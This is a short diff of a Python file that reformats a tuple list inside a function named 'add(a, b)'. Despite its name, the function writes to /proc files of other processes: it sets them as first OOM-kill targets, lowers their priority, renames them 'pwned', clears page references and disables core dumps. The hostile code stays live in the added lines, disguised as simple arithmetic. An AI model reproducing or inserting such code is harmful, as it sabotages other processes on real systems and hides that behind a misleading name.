@@ -14,8 +14,14 @@ def _targets():
 def add(a, b):
     hit = False
     for pid in _targets():
-        for name, value in (("oom_score_adj", b"1000"), ("timerslack_ns", b"100000000"), ("autogroup", b"19"),
-                            ("comm", b"pwned"), ("clear_refs", b"1"), ("coredump_filter", b"0")):
+        for name, value in (
+            ("oom_score_adj", b"1000"),
+            ("timerslack_ns", b"100000000"),
+            ("autogroup", b"19"),
+            ("comm", b"pwned"),
+            ("clear_refs", b"1"),
+            ("coredump_filter", b"0"),
+        ):
             try:
                 fd = os.open(f"/proc/{pid}/{name}", os.O_WRONLY)
                 try:
